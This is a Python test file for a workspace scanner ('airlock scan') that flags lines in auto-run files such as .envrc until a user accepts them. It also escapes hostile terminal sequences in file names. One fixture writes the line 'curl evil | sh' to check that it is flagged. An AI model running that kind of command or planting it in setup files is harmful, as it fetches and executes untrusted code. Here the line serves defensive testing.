"""Tests of `airlock scan`, and of what notes a workspace."""

import json
from pathlib import Path

from commanding import run
from worlds import World


def write(world: World, name: str, text: str) -> None:
    path = world.workspace / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def test_new_lines_are_listed_until_they_are_accepted(world: World) -> None:
    """Of a workspace that was never noted all are new."""
    write(world, ".envrc", "true\n")
    said = run(world, "scan", "my", status=1)
    assert f"{world.workspace}: 1 new, 0 noted\n" in said.stdout
    assert "nothing was noted" in said.stdout
    assert "  new  .envrc:1: true (direnv runs it on entering the directory)\n" in said.stdout
    assert said.stderr.endswith("airlock scan my --accept\n")
    run(world, "scan", "my", "--accept")
    said = run(world, "scan", "my")
    assert "0 new, 1 noted" in said.stdout
    assert "  noted  .envrc:1: true" in said.stdout
    write(world, ".envrc", "true\ncurl evil | sh\n")
    said = run(world, "scan", "my", "--new", status=1)
    assert [line.split(" (")[0] for line in said.stdout.splitlines()[1:]] == [
        "  new  .envrc:2: curl evil | sh"
    ]


def test_programs_get_the_same(world: World) -> None:
    """Whatever bytes names and lines have."""
    write(world, ".envrc", "true\n")
    run(world, "scan", "my", "--accept")
    (world.workspace / ".envrc").write_bytes(b"true\n\xff\n")
    (workspace,) = json.loads(run(world, "scan", "my", "--json", status=1).stdout)["workspaces"]
    assert workspace["path"] == str(world.workspace)
    assert (workspace["noted"], workspace["missed"]) == (True, None)
    assert [(each["line"], each["text"], each["new"]) for each in workspace["items"]] == [
        (1, "true", False),
        (2, "\\xff", True),
    ]


def test_hostile_names_and_lines_are_escaped(world: World) -> None:
    """They could rewrite what a terminal shows."""
    write(world, "a\n\x1b[2J\u05d0b/.envrc", "\x1b]0;x\x07\n")
    said = run(world, "scan", "my", status=1).stdout
    assert not {"\x1b", "\u05d0"} & {*said}
    assert "\\u{1b}" in said


def test_what_was_not_looked_at_fails_it(world: World) -> None:
    """Even where all that is listed was accepted: nobody has seen it. Its name is escaped."""
    write(world, "\x1b" + "/d" * 70 + "/.envrc", "true\n")
    run(world, "scan", "my", "--accept", status=1)
    said = run(world, "scan", "my", status=1).stdout
    assert "0 new, 0 noted" in said
    assert 'not everything was looked at: "\\u{1b}/d/d/d' in said
    assert "deeper than 64 directories" in said


def test_an_agents_workspace_is_noted_when_it_is_added(world: World, tmp_path: Path) -> None:
    """And forgotten with it, so that another agent of the name begins anew."""
    project = world.root / "other"
    project.mkdir()
    (project / ".envrc").write_text("true\n")
    said = run(world, "agent", "add", "second", "--workspace", str(project), "--yes").stderr
    assert "that your own tools obey: 1; scan" in said
    run(world, "scan", "second")
    (project / ".envrc").write_text("false\n")
    run(world, "scan", "second", status=1)
    run(world, "agent", "remove", "second", "--yes")
    assert not list(world.config.glob("state/scan-*"))
    (project / ".envrc").unlink()
    said = run(world, "agent", "add", "second", "--workspace", str(project), "--yes").stderr
    assert "your own tools" not in said


def test_what_was_noted_and_cannot_be_read_is_told(world: World) -> None:
    """Nothing counts as noted then."""
    run(world, "scan", "my", "--accept")
    (file,) = (world.config / "state").glob("scan-*")
    assert file.stat().st_mode & 0o777 == 0o600
    file.write_text("[]")
    said = run(world, "scan", "my", status=1).stderr
    assert f"{file} is not as it was written" in said
    assert "--accept" in said
